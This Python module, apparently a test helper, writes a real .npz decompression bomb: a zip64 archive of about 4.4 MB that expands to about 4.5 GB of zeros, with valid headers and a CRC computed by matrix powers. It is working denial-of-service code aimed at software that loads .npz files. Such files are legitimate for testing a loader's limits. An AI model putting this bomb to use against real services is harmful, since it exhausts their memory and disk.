"""A real ``.npz`` bomb built in well under a second: one deflated member of ~4.5 GB of zeros
in ~4.4 MB, valid to the last byte (sizes, zip64 records and the CRC-32 of the whole member).

Deflate output after a full flush does not depend on what came before, so one compressed
16 MiB block of zeros is repeated; the CRC of the zeros is computed by matrix powers over
GF(2) (zlib's crc32_combine), not by feeding 4.5 GB through zlib.
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import numpy as np

BLOCK = 16 << 20
_POLY = 0xEDB88320


def _apply(matrix: list[int], vector: int) -> int:
    out, i = 0, 0
    while vector:
        if vector & 1:
            out ^= matrix[i]
        vector >>= 1
        i += 1
    return out


def crc32_zeros(crc: int, count: int) -> int:
    """``zlib.crc32(bytes(count), crc)`` in O(log count).

    >>> crc32_zeros(zlib.crc32(b"abc"), 1000) == zlib.crc32(bytes(1000), zlib.crc32(b"abc"))
    True
    """
    matrix = [_POLY] + [1 << i for i in range(31)]      # one zero bit
    register, bits = crc ^ 0xFFFFFFFF, 8 * count
    while bits:
        if bits & 1:
            register = _apply(matrix, register)
        matrix = [_apply(matrix, column) for column in matrix]
        bits >>= 1
    return register ^ 0xFFFFFFFF


def npy_header(shape: tuple[int, ...], descr: str = "<f4") -> bytes:
    out = io.BytesIO()
    np.lib.format.write_array_header_2_0(out, {"descr": descr, "fortran_order": False,
                                               "shape": shape})
    return out.getvalue()


def write_bomb(path: Path, blocks: int = 268, name: str = "w.npy") -> int:
    """Write the bomb (``blocks`` x 16 MiB of f32 zeros); returns the declared member size."""
    header = npy_header((blocks * BLOCK // 4,))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(header) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(bytes(BLOCK)) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush(zlib.Z_FINISH)
    size = len(header) + blocks * BLOCK
    packed = len(head) + blocks * len(block) + len(tail)
    crc = crc32_zeros(zlib.crc32(header), blocks * BLOCK)
    raw_name = name.encode()
    zip64 = struct.pack("<HHQQ", 1, 16, size, packed)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, crc, 0xFFFFFFFF,
                        0xFFFFFFFF, len(raw_name), len(zip64)) + raw_name + zip64
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0x21, crc,
                          0xFFFFFFFF, 0xFFFFFFFF, len(raw_name), len(zip64), 0, 0, 0, 0,
                          0) + raw_name + zip64
    cd_at = len(local) + packed
    eocd64_at = cd_at + len(central)
    eocd64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(central), cd_at)
    locator = struct.pack("<IIQI", 0x07064B50, 0, eocd64_at, 1)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), cd_at, 0)
    with open(path, "wb") as out:
        out.write(local + head)
        for _ in range(blocks):
            out.write(block)
        out.write(tail + central + eocd64 + locator + eocd)
    return size
